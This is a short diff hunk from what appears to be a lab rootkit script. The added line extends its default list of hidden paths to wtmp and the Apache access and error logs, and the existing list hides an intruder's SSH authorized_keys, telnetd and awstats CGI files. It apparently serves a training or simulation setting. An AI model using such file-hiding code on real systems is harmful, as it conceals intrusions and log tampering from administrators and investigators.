@@ -11,6 +11,7 @@ REAL = "/usr/bin/python3.11"
 HIDDEN = [p.encode() for p in os.environ.get("LAB_ROOTKIT_HIDE", "").split(":") if p] or [
     b"/usr/sbin/telnetd", b"/etc/cron.d/awstats", b"/srv/www/cgi-bin/awstatstotals.pl",
     b"/home/webmaster/.ssh/authorized_keys", b"/usr/bin/python3",
+    b"/var/log/wtmp", b"/var/log/apache2/access.log", b"/var/log/apache2/error.log",  # the logs it cut
 ]
 MAIN = b'\nif __name__ == "__main__":'
 HOOK = b'''
